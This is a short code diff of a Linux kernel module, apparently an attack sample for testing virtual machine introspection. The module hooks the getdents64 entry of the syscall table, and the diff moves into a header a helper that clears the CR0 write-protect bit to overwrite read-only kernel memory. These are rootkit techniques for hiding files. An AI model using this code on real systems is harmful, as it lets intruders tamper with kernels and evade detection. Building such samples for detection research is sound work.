@@ -20,10 +20,9 @@
 #include <linux/kernel.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
-#include <linux/irqflags.h>
-#include <asm/processor-flags.h>
-#include <asm/special_insns.h>
 #include <asm/ptrace.h>
+
+#include "vmiaas_attack_wp.h"
 
 static unsigned long table;
 module_param(table, ulong, 0444);
@@ -35,18 +34,6 @@ MODULE_PARM_DESC(nr, "entry to replace (default 217, getdents64)");
 
 typedef long (*sys_fn)(const struct pt_regs *);
 static sys_fn orig;
-
-static void wp_write(void *dst, const void *src, size_t len)
-{
-	unsigned long flags, cr0;
-
-	local_irq_save(flags);
-	cr0 = native_read_cr0();
-	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
-	memcpy(dst, src, len);
-	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
-	local_irq_restore(flags);
-}
 
 static long vmiaas_attack_getdents64(const struct pt_regs *regs)
 {
